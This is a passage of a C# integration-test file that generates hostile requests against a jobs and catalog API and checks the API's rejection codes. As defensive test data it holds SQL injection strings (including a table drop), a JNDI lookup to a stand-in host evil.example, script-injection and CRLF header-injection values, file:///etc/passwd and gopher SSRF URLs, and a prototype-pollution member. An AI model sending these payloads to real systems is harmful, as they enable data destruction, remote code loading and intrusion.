using System.Globalization;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Encodings.Web;
using System.Text.Json;
using System.Text.Json.Nodes;
using System.Text.RegularExpressions;

namespace Nexus.Jobs.IntegrationTests.Hostile;

/// <summary>
/// The hostile-input corpus: malformed and hostile requests against every endpoint, each with the answer the contract
/// (README "The API", shared/CONTRACT.md "Errors") requires. Generated where sensible (endpoint x broken JSON,
/// field x bad value, route x wrong method, parameter x bad value).
/// </summary>
/// <remarks>
/// Everything here runs through TestServer, so Kestrel's own limits (request-line and header sizes: a 64 KB header
/// is 431 from Kestrel with no problem body, before the app) do not apply: oversized headers reach the application
/// and are asserted as the application answers them (401/403/422 problem+json). The HttpClient stack also normalises
/// some paths (dot segments), so traversal is sent percent-encoded.
/// </remarks>
public static partial class HostileCorpus
{
    private const string VF = "VALIDATION_FAILED";
    private const string IJT = "INVALID_JOB_TYPE";
    private const string MR = "MALFORMED_REQUEST";
    private const string NF = "JOB_NOT_FOUND";
    private const string PTL = "PAYLOAD_TOO_LARGE";
    private const string BTL = "BATCH_TOO_LARGE";
    private const string UN = "UNAUTHENTICATED";
    private const string TM = "TENANT_MISMATCH";
    private const string Slot = "__HOSTILE_SLOT__";

    /// <summary>The SQL injection strings the brief asks for, sent in every string field and query parameter.</summary>
    public static readonly string[] SqlInjections = ["' or 1=1--", "'; drop table nexus.ai_jobs;--", "\\\" ; select pg_sleep(5)"];

    /// <summary>Strings that try to break out of a JSON string or into a template.</summary>
    public static readonly string[] JsonInjections = ["\",\"priority\":\"high\",\"x\":\"", "}]},{\"type\":\"pricing_recalculate\"", "</script><script>alert(1)</script>", "${jndi:ldap://evil.example/a}"];

    private static readonly JsonSerializerOptions Relaxed = new() { Encoder = JavaScriptEncoder.UnsafeRelaxedJsonEscaping };

    /// <summary>A product bug: why the matching cases fail today, and which violations it explains.</summary>
    /// <param name="Id">Short id used in reports.</param>
    /// <param name="Reason">"PRODUCT BUG: ..." with the cause.</param>
    /// <param name="Matches">Which cases of the corpus it breaks.</param>
    /// <param name="Explains">Substrings of the violations this bug accounts for; any other violation of such a case is still a failure.</param>
    public sealed record KnownBug(string Id, string Reason, Func<HostileCase, bool> Matches, string[] Explains);

    /// <summary>Endpoints with [Consumes("application/json")], whose framework 415 is written by MVC, not by RequestJson.</summary>
    private static readonly string[] ConsumesPaths = ["/api/ai-jobs", "/api/ai-jobs/batch", "/v1/compounding/trigger", "/v1/insights"];

    /// <summary>
    /// The product bugs this corpus found (the first that matches a case wins). Their cases stay in the corpus and are
    /// still sent; the violations a bug explains are not failures, any other is; remove an entry once it is fixed (the
    /// corpus run prints the known-bug cases that no longer fail).
    /// </summary>
    // Every bug this corpus found (invalid Unicode, the last representable date, framework errors without detail,
    // plain-text 404/405 answers) is fixed; a new one goes here, named, until it is.
    public static readonly IReadOnlyList<KnownBug> KnownBugRules = [];

    private static readonly Lazy<IReadOnlyDictionary<string, HostileCase>> Built = new(Build);
    private static readonly Lazy<IReadOnlyDictionary<string, KnownBug>> Bugs = new(() =>
        All.Values.Select(c => (c, bug: KnownBugRules.FirstOrDefault(b => b.Matches(c)))).Where(x => x.bug is not null)
            .ToDictionary(x => x.c.Name, x => x.bug!, StringComparer.Ordinal));

    public static IReadOnlyDictionary<string, HostileCase> All => Built.Value;

    /// <summary>Case name -> the product bug that makes it fail today.</summary>
    public static IReadOnlyDictionary<string, KnownBug> KnownBugs => Bugs.Value;

    /// <summary>The corpus's categories (one per generator below), each a kind of hostile input.</summary>
    public static readonly string[] Categories =
        ["BrokenJson", "InvalidUnicode", "ContentTypes", "Oversized", "FieldMatrix", "Injections", "UnknownFields", "Batches", "PathIds",
         "WrongMethods", "Queries", "Headers", "Anonymous", "CallbackSecret"];

    // ---------------------------------------------------------------------------------------------------------------
    // Endpoint descriptions

    private enum K { JobType, CompoundingType, Enum, Text, Bool, Int, Money, Fraction, Date, Moment, Array, Object, Url }

    /// <summary>A field of a POST body: where it is, what it holds, and its limits.</summary>
    private sealed record F(string Path, K Kind, bool NullValid = false, int MaxLength = 0, double Lo = 0, double Hi = 0, int MaxItems = 0, bool EmptyValid = false);

    private sealed record PostEndpoint(string Label, string Path, string Valid, string StringSlot, F[] Fields);

    private const string Pricing = """{"type":"pricing_recalculate","params":{"skus":["SKU-1"],"marketplace":"amazon_us","apply":false},"priority":"normal"}""";
    private const string Moment = "2026-03-12T14:32:01Z";

    private static readonly PostEndpoint[] Posts =
    [
        new("POST /api/ai-jobs", "/api/ai-jobs", Pricing, "type",
        [
            new("type", K.JobType), new("priority", K.Enum, NullValid: true), new("params", K.Object),
            new("params.skus", K.Array, MaxItems: 1000), new("params.skus[0]", K.Text, MaxLength: 64),
            new("params.marketplace", K.Enum), new("params.apply", K.Bool), new("callback_url", K.Url, NullValid: true),
        ]),
        new("POST /api/ai-jobs (return_classify)", "/api/ai-jobs", """{"type":"return_classify","params":{"window_days":30}}""", "type",
            [new("params.window_days", K.Int, Lo: 1, Hi: 3650)]),
        new("POST /api/ai-jobs (review_sentiment)", "/api/ai-jobs", """{"type":"review_sentiment","params":{"skus":["SKU-1"],"marketplace":"amazon_us","since_days":7}}""", "type",
            [new("params.since_days", K.Int, Lo: 1, Hi: 3650)]),
        new("POST /api/ai-jobs (llm_visibility_score)", "/api/ai-jobs", """{"type":"llm_visibility_score","params":{"skus":["SKU-1"],"assistants":["chatgpt"]}}""", "type",
            [new("params.assistants", K.Array, MaxItems: 20), new("params.assistants[0]", K.Text, MaxLength: 100)]),
        new("POST /api/ai-jobs/batch", "/api/ai-jobs/batch", $$"""{"jobs":[{{Pricing}}],"sequential":false}""", "jobs[0].type",
        [
            new("jobs", K.Array, MaxItems: 20), new("jobs[0]", K.Object), new("jobs[0].type", K.JobType),
            new("jobs[0].priority", K.Enum, NullValid: true), new("jobs[0].params", K.Object), new("jobs[0].params.skus", K.Array, MaxItems: 1000),
            new("jobs[0].params.skus[0]", K.Text, MaxLength: 64), new("jobs[0].params.marketplace", K.Enum), new("jobs[0].params.apply", K.Bool),
            new("sequential", K.Bool, NullValid: true), new("callback_url", K.Url, NullValid: true),
        ]),
        new("POST /v1/compounding/trigger", "/v1/compounding/trigger", """{"job_type":"metrics","dry_run":true}""", "job_type",
            [new("job_type", K.CompoundingType), new("dry_run", K.Bool, NullValid: true), new("callback_url", K.Url, NullValid: true)]),
        new("POST /v1/insights", "/v1/insights",
            """{"insights":[{"content":"Customers mention battery life","type":"observation","entities":[{"id":"SKU-1","name":"Widget","type":"product"}],"confidence":0.5}]}""",
            "insights[0].type",
        [
            new("insights", K.Array, MaxItems: 1000), new("insights[0]", K.Object), new("insights[0].content", K.Text, MaxLength: 10_000),
            new("insights[0].type", K.Text, MaxLength: 64), new("insights[0].entities", K.Array, NullValid: true, MaxItems: 100, EmptyValid: true),
            new("insights[0].entities[0]", K.Object), new("insights[0].entities[0].id", K.Text, MaxLength: 200),
            new("insights[0].entities[0].name", K.Text, MaxLength: 500), new("insights[0].entities[0].type", K.Text, MaxLength: 64),
            new("insights[0].confidence", K.Fraction, NullValid: true, Lo: 0, Hi: 1),
        ]),
        new("POST /v1/catalog/products", "/v1/catalog/products",
            """{"products":[{"sku":"SKU-1","marketplace":"amazon_us","title":"Widget","description":"A widget","bullet_points":["Sturdy"],"brand":"Acme","category":"Tools","price":9.99,"cost":5,"currency":"USD"}]}""",
            "products[0].marketplace",
        [
            new("products", K.Array, MaxItems: 1000), new("products[0]", K.Object), new("products[0].sku", K.Text, MaxLength: 64),
            new("products[0].marketplace", K.Enum), new("products[0].title", K.Text, MaxLength: 500),
            new("products[0].description", K.Text, NullValid: true, MaxLength: 5000), new("products[0].bullet_points", K.Array, NullValid: true, MaxItems: 10, EmptyValid: true),
            new("products[0].bullet_points[0]", K.Text, MaxLength: 1000), new("products[0].brand", K.Text, NullValid: true, MaxLength: 200),
            new("products[0].category", K.Text, NullValid: true, MaxLength: 200), new("products[0].price", K.Money, Lo: 0, Hi: 1_000_000_000),
            new("products[0].cost", K.Money, NullValid: true, Lo: 0, Hi: 1_000_000_000), new("products[0].currency", K.Enum),
        ]),
        new("POST /v1/catalog/daily-sales", "/v1/catalog/daily-sales", """{"daily_sales":[{"sku":"SKU-1","date":"2026-03-12","units":3,"price":9.99}]}""",
            "daily_sales[0].date",
        [
            new("daily_sales", K.Array, MaxItems: 1000), new("daily_sales[0]", K.Object), new("daily_sales[0].sku", K.Text, MaxLength: 64),
            new("daily_sales[0].date", K.Date), new("daily_sales[0].units", K.Int, Lo: 0, Hi: 10_000_000), new("daily_sales[0].price", K.Money, Lo: 0, Hi: 1_000_000_000),
        ]),
        new("POST /v1/catalog/competitor-offers", "/v1/catalog/competitor-offers",
            $$"""{"competitor_offers":[{"sku":"SKU-1","competitor":"Rival","price":8.5,"observed_at":"{{Moment}}","title":"Rival widget"}]}""",
            "competitor_offers[0].observed_at",
        [
            new("competitor_offers", K.Array, MaxItems: 1000), new("competitor_offers[0]", K.Object), new("competitor_offers[0].sku", K.Text, MaxLength: 64),
            new("competitor_offers[0].competitor", K.Text, MaxLength: 200), new("competitor_offers[0].price", K.Money, Lo: 0, Hi: 1_000_000_000),
            new("competitor_offers[0].observed_at", K.Moment), new("competitor_offers[0].title", K.Text, NullValid: true, MaxLength: 500),
        ]),
        new("POST /v1/catalog/reviews", "/v1/catalog/reviews",
            $$"""{"reviews":[{"review_id":"R-1","sku":"SKU-1","rating":4,"text":"Works well","created_at":"{{Moment}}"}]}""",
            "reviews[0].created_at",
        [
            new("reviews", K.Array, MaxItems: 1000), new("reviews[0]", K.Object), new("reviews[0].review_id", K.Text, MaxLength: 200),
            new("reviews[0].sku", K.Text, MaxLength: 64), new("reviews[0].rating", K.Int, Lo: 1, Hi: 5), new("reviews[0].text", K.Text, MaxLength: 10_000),
            new("reviews[0].created_at", K.Moment),
        ]),
        new("POST /v1/catalog/returns", "/v1/catalog/returns",
            $$"""{"returns":[{"sku":"SKU-1","order_ref":"O-1","reason":"Broken on arrival","units":1,"created_at":"{{Moment}}"}]}""",
            "returns[0].created_at",
        [
            new("returns", K.Array, MaxItems: 1000), new("returns[0]", K.Object), new("returns[0].sku", K.Text, MaxLength: 64),
            new("returns[0].order_ref", K.Text, MaxLength: 200), new("returns[0].reason", K.Text, MaxLength: 2000),
            new("returns[0].units", K.Int, Lo: 1, Hi: 10_000), new("returns[0].created_at", K.Moment),
        ]),
    ];

    /// <summary>The POST endpoints once each (the ai-jobs variants share a route).</summary>
    private static IEnumerable<PostEndpoint> Routes => Posts.Where(p => !p.Label.Contains('('));

    // ---------------------------------------------------------------------------------------------------------------

    private static IReadOnlyDictionary<string, HostileCase> Build()
    {
        var cases = new Dictionary<string, HostileCase>(StringComparer.Ordinal);
        void Add(HostileCase c)
        {
            var name = c.Name;
            for (var n = 2; cases.ContainsKey(name); n++)
            {
                name = $"{c.Name} #{n}";
            }
            var refusable = c.Path.Split('?')[0].Contains("%00", StringComparison.Ordinal);
            cases[name] = c with { Name = name, MayBeRefusedBeforeTheApp = refusable };
        }

        var categories = new (string Category, IEnumerable<HostileCase> Cases)[]
        {
            (nameof(BrokenJson), BrokenJson()), (nameof(InvalidUnicode), InvalidUnicode()), (nameof(ContentTypes), ContentTypes()),
            (nameof(Oversized), Oversized()), (nameof(FieldMatrix), FieldMatrix()), (nameof(Injections), Injections()),
            (nameof(UnknownFields), UnknownFields()), (nameof(Batches), Batches()), (nameof(PathIds), PathIds()),
            (nameof(WrongMethods), WrongMethods()), (nameof(Queries), Queries()), (nameof(Headers), Headers()),
            (nameof(Anonymous), Anonymous()), (nameof(CallbackSecret), CallbackSecret()),
        };
        foreach (var (category, generated) in categories)
        {
            foreach (var c in generated)
            {
                Add(c with { Category = category });
            }
        }
        return cases;
    }

    private static HostileCase Post(PostEndpoint e, string what, int status, string? code, Func<HttpContent?> body, int[]? alsoAccept = null) =>
        new($"{e.Label} | {what}", "POST", e.Path, status, code, body, AlsoAccept: alsoAccept);

    private static Func<HttpContent?> Text(string text, string? contentType = Bodies.Json) => () => Bodies.Text(text, contentType);

    private static Func<HttpContent?> Raw(byte[] bytes, string? contentType = Bodies.Json) => () => Bodies.Bytes(bytes, contentType);

    // ---------------------------------------------------------------------------------------------------------------
    // Broken JSON: 400 MALFORMED_REQUEST; well-formed JSON that is not an object: 422 VALIDATION_FAILED.

    private static IEnumerable<HostileCase> BrokenJson()
    {
        var deepArrays = new string('[', 10_000) + new string(']', 10_000);
        var deepObjects = string.Concat(Enumerable.Repeat("{\"a\":", 10_000)) + "1" + new string('}', 10_000);
        foreach (var e in Routes)
        {
            var v = e.Valid;
            var broken = new (string What, byte[] Body)[]
            {
                ("truncated by one byte", U(v[..^1])),
                ("truncated mid-way", U(v[..(v.Length / 2)])),
                ("trailing garbage", U(v + " garbage")),
                ("trailing comma-separated value", U(v + ",1")),
                ("two documents back to back", U(v + v)),
                ("single quotes", U(v.Replace('"', '\''))),
                ("NaN literal", U("{\"n\":NaN," + v[1..])),
                ("Infinity literal", U("{\"n\":Infinity," + v[1..])),
                ("-Infinity literal", U("{\"n\":-Infinity," + v[1..])),
                ("block comment", U("/* hostile */" + v)),
                ("line comment", U("{// hostile\n" + v[1..])),
                ("trailing comma", U(v[..^1] + ",}")),
                ("unquoted key", U("{hostile:1," + v[1..])),
                ("BOM then junk", [0xEF, 0xBB, 0xBF, .. U("junk")]),
                ("BOM then BOM then JSON", [0xEF, 0xBB, 0xBF, 0xEF, 0xBB, 0xBF, .. U(v)]),
                ("arrays nested 10,000 deep", U(deepArrays)),
                ("arrays nested 10,000 deep in a member", U("{\"n\":" + deepArrays + "," + v[1..])),
                ("objects nested 10,000 deep", U(deepObjects)),
                ("objects nested 33 deep (limit 32)", U(string.Concat(Enumerable.Repeat("{\"a\":", 33)) + "1" + new string('}', 33))),
                ("unterminated string", U("{\"type\":\"pricing_recalc")),
                ("raw control character in a string", U("{\"n\":\"a\u0001b\"," + v[1..])),
                ("raw newline in a string", U("{\"n\":\"a\nb\"," + v[1..])),
                ("invalid escape \\x41", U("{\"n\":\"\\x41\"," + v[1..])),
                ("short unicode escape \\u12", U("{\"n\":\"\\u12\"," + v[1..])),
                ("whitespace only", U("  \r\n\t  ")),
                ("empty body", []),
                ("undefined literal", U("undefined")),
                ("leading zero number", U("{\"n\":01," + v[1..])),
                ("hex number", U("{\"n\":0x1F," + v[1..])),
                ("plus-signed number", U("{\"n\":+1," + v[1..])),
                ("capitalised True", U("{\"n\":True," + v[1..])),
                ("missing colon", U("{\"n\" 1," + v[1..])),
                ("missing value", U("{\"n\":," + v[1..])),
                ("closing bracket mismatch", U(v[..^1] + "]")),
                ("raw 0xFF outside strings", [.. U("{"), 0xFF, .. U("}")]),
                ("NUL byte before the object", [0x00, .. U(v)]),
                ("UTF-16LE encoded body", Encoding.Unicode.GetBytes(v)),
            };
            foreach (var (what, body) in broken)
            {
                yield return Post(e, $"broken JSON: {what}", 400, MR, Raw(body));
            }
            foreach (var (what, body) in new[] { ("root is an array", "[" + v + "]"), ("root is null", "null"), ("root is a number", "42"), ("root is a string", "\"{}\""), ("root is true", "true") })
            {
                yield return Post(e, $"not an object: {what}", 422, VF, Text(body));
            }
        }
    }

    // ---------------------------------------------------------------------------------------------------------------
    // Invalid Unicode: lone surrogates escaped in JSON (400 or 422) and raw invalid UTF-8 (400 MALFORMED_REQUEST).

    private static IEnumerable<HostileCase> InvalidUnicode()
    {
        var escapes = new (string What, string Literal)[]
        {
            ("lone high surrogate \\ud800", "\"\\ud800\""),
            ("lone low surrogate \\udc00", "\"\\udc00\""),
            ("reversed surrogate pair", "\"\\udc00\\ud800\""),
            ("high surrogate then ASCII", "\"\\ud800A\""),
            ("high surrogate at the end of text", "\"pricing\\udbff\""),
        };
        var raws = new (string What, byte[] Bytes)[]
        {
            ("invalid byte pair C3 28", [0xC3, 0x28]),
            ("overlong encoding C0 AF", [0xC0, 0xAF]),
            ("lone continuation byte 80", [0x80]),
            ("truncated 3-byte sequence E2 82", [0xE2, 0x82]),
            ("UTF-8 encoded surrogate ED A0 80", [0xED, 0xA0, 0x80]),
            ("code point above U+10FFFF (F5)", [0xF5, 0x80, 0x80, 0x80]),
            ("bytes FE FF", [0xFE, 0xFF]),
        };
        foreach (var e in Posts.Where(p => !p.Label.Contains('(')))
        {
            var slotted = WithSlot(e.Valid, e.StringSlot);
            foreach (var (what, literal) in escapes)
            {
                yield return Post(e, $"{e.StringSlot} = {what}", 400, MR, Text(slotted.Replace($"\"{Slot}\"", literal, StringComparison.Ordinal)), [422]);
            }
            yield return Post(e, "member name is a lone surrogate \\ud800", 400, MR, Text("{\"\\ud800\":1," + e.Valid[1..]), [422]);
            foreach (var (what, bytes) in raws)
            {
                yield return Post(e, $"{e.StringSlot} holds raw invalid UTF-8: {what}", 400, MR,
                    Raw(Bodies.Splice(slotted, Slot, bytes)), [422]);
            }
            yield return Post(e, "member name holds raw invalid UTF-8 (FF)", 400, MR, Raw([.. U("{\""), 0xFF, .. U("\":1,"), .. U(e.Valid[1..])]), [422]);
        }
    }

    // ---------------------------------------------------------------------------------------------------------------
    // Wrong content types: 415 MALFORMED_REQUEST.

    private static IEnumerable<HostileCase> ContentTypes()
    {
        var types = new (string What, string? Type)[]
        {
            ("text/plain", "text/plain"),
            ("application/xml", "application/xml"),
            ("application/x-www-form-urlencoded", "application/x-www-form-urlencoded"),
            ("application/json; charset=latin1", "application/json; charset=latin1"),
            ("application/json; charset=utf-16", "application/json; charset=utf-16"),
            ("application/jsonx", "application/jsonx"),
            ("text/json", "text/json"),
            ("*/*", "*/*"),
            ("garbage media type", "json please"),
            ("no Content-Type", null),
        };
        foreach (var e in Routes)
        {
            foreach (var (what, type) in types)
            {
                yield return Post(e, $"Content-Type: {what}", 415, MR, Raw(U(e.Valid), type));
            }
            yield return Post(e, "multipart/form-data with the JSON as a part", 415, MR, () =>
            {
                var multipart = new MultipartFormDataContent();
                multipart.Add(new StringContent(e.Valid, Encoding.UTF8, "application/json"), "body");
                return multipart;
            });
            yield return Post(e, "XML body as application/xml", 415, MR, Raw(U("<job><type>pricing_recalculate</type></job>"), "application/xml"));
        }
    }

    // ---------------------------------------------------------------------------------------------------------------
    // Bodies over the 2 MiB limit: 413 PAYLOAD_TOO_LARGE, announced or not.

    private static IEnumerable<HostileCase> Oversized()
    {
        const int tenMb = 10 * 1024 * 1024;
        foreach (var e in Routes)
        {
            var v = e.Valid;
            yield return Post(e, "10 MB JSON body with Content-Length", 413, PTL,
                () => Bodies.Bytes(U("{\"pad\":\"" + new string('x', tenMb) + "\"," + v[1..])));
            yield return Post(e, "10 MB junk body without Content-Length (chunked)", 413, PTL,
                () => Bodies.Unannounced(Enumerable.Repeat((byte)'[', tenMb).ToArray()));
            yield return Post(e, "2 MiB + 1 byte body", 413, PTL, () =>
            {
                var pad = (int)(2 * 1024 * 1024 + 1 - (v.Length + 9));
                return Bodies.Bytes(U("{\"pad\":\"" + new string('x', pad) + "\"," + v[1..]));
            });
        }
        var dispatch = Posts[0];
        yield return Post(dispatch, "10 MB body with an Idempotency-Key", 413, PTL,
            () => Bodies.Bytes(U("{\"pad\":\"" + new string('x', tenMb) + "\"," + dispatch.Valid[1..]))) with
        {
            Tweak = (r, _) => r.Headers.TryAddWithoutValidation("Idempotency-Key", "hostile-10mb"),
        };
        yield return Post(dispatch, "10 MB body as text/plain", 415, MR, () => Bodies.Bytes(new byte[tenMb], "text/plain"));
        yield return Post(dispatch, "10 MB of SKUs (a valid shape, too many bytes)", 413, PTL, () =>
        {
            var skus = string.Join(",", Enumerable.Range(0, 700_000).Select(i => $"\"S{i:D10}\""));
            return Bodies.Bytes(U("{\"type\":\"pricing_recalculate\",\"params\":{\"skus\":[" + skus + "],\"marketplace\":\"amazon_us\"}}"));
        });
    }

    // ---------------------------------------------------------------------------------------------------------------
    // Field x bad value: every field of every POST body, wrong type, null, out of range, huge numbers.

    private sealed record Bad(string Label, string Literal, bool IsString);

    private static readonly string[] NumberCandidates =
        ["1e400", "-1e400", "99999999999999999999", "-99999999999999999999", "-1", "-0", "0", "1.5", "1E2", "2147483648", "9223372036854775808", "1000000000.01", "6", "3651", "10001", "10000001"];

    private static IEnumerable<HostileCase> FieldMatrix()
    {
        foreach (var e in Posts)
        {
            foreach (var f in e.Fields)
            {
                foreach (var bad in BadValues(e, f))
                {
                    var json = WithSlot(e.Valid, f.Path).Replace($"\"{Slot}\"", bad.Literal, StringComparison.Ordinal);
                    var (status, code) = Expect(e, f, bad);
                    yield return Post(e, $"{f.Path} = {bad.Label}", status, code, Text(json));
                }
            }
        }
    }

    private static (int, string) Expect(PostEndpoint e, F f, Bad bad) =>
        f.Kind is K.JobType or K.CompoundingType && bad.IsString ? (422, IJT)
        : f.Path == "jobs" && bad.Label.StartsWith("too many", StringComparison.Ordinal) ? (422, BTL)
        : (422, VF);

    private static IEnumerable<Bad> BadValues(PostEndpoint e, F f)
    {
        var current = JsonNode.Parse(e.Valid)!;
        var node = Navigate(current, f.Path);
        var wrong = new List<Bad>();
        if (!f.NullValid)
        {
            wrong.Add(new("null", "null", false));
        }
        switch (f.Kind)
        {
            case K.JobType:
            case K.CompoundingType:
            case K.Enum:
            {
                var value = node!.GetValue<string>();
                wrong.AddRange([new("123", "123", false), new("true", "true", false), new("[]", "[]", false), new("{}", "{}", false),
                    new($"[\"{value}\"] (array for a scalar)", $"[\"{value}\"]", false), new("{\"$ne\":null}", "{\"$ne\":null}", false), new("1e400", "1e400", false)]);
                var variant = value.ToUpperInvariant() == value ? value.ToLowerInvariant() : value.ToUpperInvariant();
                foreach (var s in new[] { "", "   ", variant, value + "\u200B", value + "\u0000", " " + value, "pr\u0456cing_recalculate", new string('x', 500), "\u202Eetaluclacer_gnicirp" })
                {
                    wrong.Add(new(Describe(s), Json(s), true));
                }
                foreach (var s in SqlInjections.Concat(JsonInjections))
                {
                    wrong.Add(new($"\"{s}\"", Json(s), true));
                }
                break;
            }
            case K.Text:
                wrong.AddRange([new("123", "123", false), new("true", "true", false), new("[]", "[]", false), new("{}", "{}", false),
                    new("[\"x\"] (array for a scalar)", "[\"x\"]", false), new("{\"$ne\":null}", "{\"$ne\":null}", false), new("1e400", "1e400", false),
                    new("\"\" (empty)", "\"\"", true), new("\"   \" (blank)", "\"   \"", true), new("\"a\\u0001b\" (control character)", "\"a\\u0001b\"", true),
                    new("\"a\\u0000b\" (NUL)", "\"a\\u0000b\"", true),
                    new($"{f.MaxLength + 1} characters (max {f.MaxLength})", Json(new string('x', f.MaxLength + 1)), true)]);
                break;
            case K.Bool:
                wrong.AddRange([new("\"true\" (string)", "\"true\"", true), new("1", "1", false), new("0", "0", false), new("\"yes\"", "\"yes\"", true),
                    new("[]", "[]", false), new("{}", "{}", false), new("[true]", "[true]", false), new("\"' or 1=1--\"", Json(SqlInjections[0]), true)]);
                break;
            case K.Int:
            case K.Money:
            case K.Fraction:
                wrong.AddRange([new("\"1\" (number as string)", "\"1\"", true), new("true", "true", false), new("[]", "[]", false), new("{}", "{}", false),
                    new("[1] (array for a scalar)", "[1]", false), new("\"' or 1=1--\"", Json(SqlInjections[0]), true), new("\"NaN\" (string)", "\"NaN\"", true)]);
                foreach (var n in NumberCandidates.Where(n => !NumberIsValid(f, n)))
                {
                    wrong.Add(new(n, n, false));
                }
                break;
            case K.Date:
                wrong.AddRange([new("20260312 (number)", "20260312", false), new("{}", "{}", false), new("[]", "[]", false)]);
                foreach (var s in new[] { "", "2026-02-30", "2026-13-01", "2026-3-12", "12/03/2026", "2026-03-12T00:00:00Z", "0000-00-00", "99999-01-01", "yesterday" }.Concat(SqlInjections))
                {
                    wrong.Add(new(Describe(s), Json(s), true));
                }
                break;
            case K.Moment:
                wrong.AddRange([new("1773325921 (epoch number)", "1773325921", false), new("{}", "{}", false), new("[]", "[]", false)]);
                foreach (var s in new[] { "", "2026-03-12", "2026-03-12T14:32:01", "2026-03-12 14:32:01Z", "2026-03-12T25:00:00Z", "2026-02-30T10:00:00Z",
                             "2026-03-12T14:32:01+24:00", "2026-03-12T14:32:01.12345678Z", "9999-12-31T23:59:59-01:00", "0001-01-01T00:00:00+01:00", "now" }.Concat(SqlInjections))
                {
                    wrong.Add(new(Describe(s), Json(s), true));
                }
                break;
            case K.Array:
            {
                wrong.AddRange([new("\"x\" (scalar for an array)", "\"x\"", true), new("1", "1", false), new("{}", "{}", false), new("true", "true", false),
                    new("[null]", "[null]", false), new("[1]", "[1]", false), new("[[]]", "[[]]", false), new("[{}] ", "[{}]", false)]);
                if (!f.EmptyValid)
                {
                    wrong.Add(new("[] (empty)", "[]", false));
                }
                var first = node!.AsArray()[0]!;
                wrong.Add(new($"too many: {f.MaxItems + 1} items (max {f.MaxItems})", Many(first, f.MaxItems + 1), false));
                if (f.Path == "jobs")
                {
                    wrong.Add(new("too many: 1000 jobs", Many(first, 1000), false));
                }
                if (first.GetValueKind() == JsonValueKind.String)
                {
                    var s = first.GetValue<string>();
                    if (f.Path.EndsWith("skus", StringComparison.Ordinal) || f.Path.EndsWith("assistants", StringComparison.Ordinal))
                    {
                        wrong.Add(new("a duplicated item", $"[{Json(s)},{Json(s)}]", false));
                        wrong.Add(new("an item with surrounding spaces", $"[{Json(" " + s + " ")}]", false));
                    }
                }
                break;
            }
            case K.Url:
                wrong.AddRange([new("123", "123", false), new("true", "true", false), new("[]", "[]", false), new("{}", "{}", false),
                    new("[\"https://hooks.example.com/x\"] (array for a scalar)", "[\"https://hooks.example.com/x\"]", false),
                    new("{\"$ne\":null}", "{\"$ne\":null}", false), new("1e400", "1e400", false)]);
                foreach (var s in new[]
                         {
                             "", "   ", "/relative/hook", "hooks.example.com/hook", "//hooks.example.com/hook", "ftp://hooks.example.com/hook",
                             "file:///etc/passwd", "javascript:alert(1)", "data:text/html,<b>x</b>", "gopher://127.0.0.1:25/x", "https://",
                             "http:hooks.example.com", "https://user:password@hooks.example.com/", "https://user@hooks.example.com/",
                             "https://hooks.example.com/a b", " https://hooks.example.com/", "https://hooks.example.com/\u0000",
                             "https://hooks.example.com/\r\nX-Injected: 1", "https://hooks.example.com/" + new string('a', 2049 - 26),
                         }.Concat(SqlInjections).Concat(JsonInjections))
                {
                    wrong.Add(new(Describe(s), Json(s), true));
                }
                break;
            case K.Object:
                wrong.AddRange([new("\"x\" (string for an object)", "\"x\"", true), new("1", "1", false), new("[]", "[]", false), new("true", "true", false),
                    new("[{}] (array for an object)", "[{}]", false), new("\"{}\" (object as a string)", "\"{}\"", true)]);
                break;
        }
        return wrong;
    }

    /// <summary>Whether a numeric literal is a valid value of <paramref name="f"/> (such values are left out: they are not hostile).</summary>
    private static bool NumberIsValid(F f, string literal)
    {
        var d = double.Parse(literal, NumberStyles.Float, CultureInfo.InvariantCulture);
        if (!double.IsFinite(d) || d < f.Lo || d > f.Hi)
        {
            return false;
        }
        return f.Kind != K.Int || IntegerLiteral().IsMatch(literal);
    }

    [GeneratedRegex("^-?[0-9]+$")]
    private static partial Regex IntegerLiteral();

    private static string Many(JsonNode first, int count)
    {
        var items = new List<string>(count);
        for (var i = 0; i < count; i++)
        {
            items.Add(first.GetValueKind() == JsonValueKind.String ? Json($"{first.GetValue<string>()}-{i}") : first.ToJsonString(Relaxed));
        }
        return "[" + string.Join(",", items) + "]";
    }

    // ---------------------------------------------------------------------------------------------------------------
    // Injection strings in every string field. Free-text fields accept them (they are data), so each such case also
    // carries an unknown member next to the field: the request stays invalid (422) and must be answered, not executed.

    private static IEnumerable<HostileCase> Injections()
    {
        foreach (var e in Posts)
        {
            foreach (var f in e.Fields.Where(f => f.Kind == K.Text))
            {
                foreach (var s in SqlInjections.Concat(JsonInjections))
                {
                    var root = JsonNode.Parse(e.Valid)!;
                    Set(root, f.Path, JsonValue.Create(s));
                    var parent = f.Path.Contains('.') ? f.Path[..f.Path.LastIndexOf('.')] : "";
                    var holder = (parent.Length == 0 ? root : Navigate(root, parent))!.AsObject();
                    holder["hostile_extra"] = true;
                    yield return Post(e, $"{f.Path} = \"{s}\" (+ unknown member)", 422, VF, Text(root.ToJsonString(Relaxed)));
                }
            }
        }
    }

    // ---------------------------------------------------------------------------------------------------------------
    // Unknown, duplicated and injected member names: 422 VALIDATION_FAILED.

    private static IEnumerable<HostileCase> UnknownFields()
    {
        foreach (var e in Posts)
        {
            var names = new[] { "hostile", "__proto__", "constructor", "$where", "TYPE", "" }.Concat(SqlInjections);
            foreach (var name in names)
            {
                var root = JsonNode.Parse(e.Valid)!.AsObject();
                root[name] = name == "__proto__" ? new JsonObject { ["admin"] = true } : JsonValue.Create(1);
                yield return Post(e, $"unknown member {Describe(name)}", 422, VF, Text(root.ToJsonString(Relaxed)));
            }
            var first = JsonNode.Parse(e.Valid)!.AsObject().First();
            yield return Post(e, $"member \"{first.Key}\" sent twice", 422, VF,
                Text("{" + Json(first.Key) + ":" + first.Value!.ToJsonString(Relaxed) + "," + e.Valid[1..]));
            var deepest = e.Fields.Select(f => f.Path).Where(p => !p.EndsWith(']')).LastOrDefault(p => p.Contains('.'));
            if (deepest is not null)
            {
                var parent = deepest[..deepest.LastIndexOf('.')];
                var root = JsonNode.Parse(e.Valid)!;
                Navigate(root, parent)!.AsObject()["hostile_nested"] = "x";
                yield return Post(e, $"unknown member inside {parent}", 422, VF, Text(root.ToJsonString(Relaxed)));
            }
        }
    }

    // ---------------------------------------------------------------------------------------------------------------
    // Batches: too large, partly invalid (nothing may be queued).

    private static IEnumerable<HostileCase> Batches()
    {
        var batch = Posts.Single(p => p.Path == "/api/ai-jobs/batch");
        string Jobs(IEnumerable<string> jobs, string extra = "") => $"{{\"jobs\":[{string.Join(",", jobs)}]{extra}}}";
